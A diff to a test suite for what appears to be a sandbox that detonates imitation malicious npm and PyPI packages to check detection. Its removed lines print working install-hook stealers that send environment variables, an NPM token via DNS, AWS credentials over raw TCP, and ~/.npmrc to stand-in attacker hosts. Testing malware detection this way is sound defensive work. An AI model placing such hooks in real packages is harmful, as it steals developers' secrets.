@@ -10,7 +10,7 @@ import { fetchNpm, stage } from '@vetbox/fetch';
 import { detonate as detonateStaged } from '@vetbox/pipeline';
 import { DockerRuntime, LABEL_ANALYSIS, ensureSandboxImage } from '@vetbox/sandbox';
 import type { CannedResponse } from '@vetbox/sinkhole';
-import { stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';
+import { DNS_EXFIL_JS, ENV_STEALER_JS, NPMRC_HTTPS_JS, awsStealerSetupPy, stageNpm, stagePypiSdist, tempDir } from '../fixtures/sandbox/stage.js';
 
 const runtime = new DockerRuntime();
 const limits = { graceMs: 1000, phaseTimeoutMs: 180_000 };
@@ -55,13 +55,7 @@ describe('rules + sinkhole: imitation malware comes out malicious', () => {
       name: 'env-stealer',
       scripts: { postinstall: 'node steal.js' },
       files: {
-        'steal.js': `
-const http = require('http');
-const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
-const req = http.request({ host: 'collector.example', path: '/e', method: 'POST' }, (res) => res.resume());
-req.on('error', () => {});
-req.end(body);
-`,
+        'steal.js': ENV_STEALER_JS,
         'index.js': 'module.exports = 1;\n',
       },
     });
@@ -78,11 +72,7 @@ req.end(body);
       name: 'dns-exfil',
       scripts: { postinstall: 'node dns.js' },
       files: {
-        'dns.js': `
-const dns = require('dns');
-const hex = Buffer.from(process.env.NPM_TOKEN || '').toString('hex');
-dns.lookup(hex.match(/.{1,30}/g).join('.') + '.t.attacker.example', () => {});
-`,
+        'dns.js': DNS_EXFIL_JS,
         'index.js': 'module.exports = 1;\n',
       },
     });
@@ -94,18 +84,7 @@ dns.lookup(hex.match(/.{1,30}/g).join('.') + '.t.attacker.example', () => {});
   it('setup.py reads ~/.aws/credentials and sends it over raw TCP', async () => {
     const staged = await stagePypiSdist({
       name: 'awssteal',
-      setupPy: `
-import os, socket
-try:
-    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
-    s = socket.create_connection(('198.51.100.20', 9001), timeout=3)
-    s.sendall(data)
-    s.close()
-except Exception as e:
-    print('exfil failed', e)
-from setuptools import setup
-setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
-`,
+      setupPy: awsStealerSetupPy('awssteal'),
       files: { 'awssteal.py': 'VALUE = 1\n' },
     });
     cleanup.push(staged.dir);
@@ -118,12 +97,7 @@ setup(name='awssteal', version='1.0.0', py_modules=['awssteal'])
       name: 'npmrc-https',
       scripts: { postinstall: 'node up.js' },
       files: {
-        'up.js': `
-const https = require('https'), fs = require('fs'), os = require('os');
-const req = https.request({ host: 'upload.example', path: '/u', method: 'POST' }, (res) => res.resume());
-req.on('error', () => {});
-req.end(fs.readFileSync(os.homedir() + '/.npmrc'));
-`,
+        'up.js': NPMRC_HTTPS_JS,
         'index.js': 'module.exports = 1;\n',
       },
     });
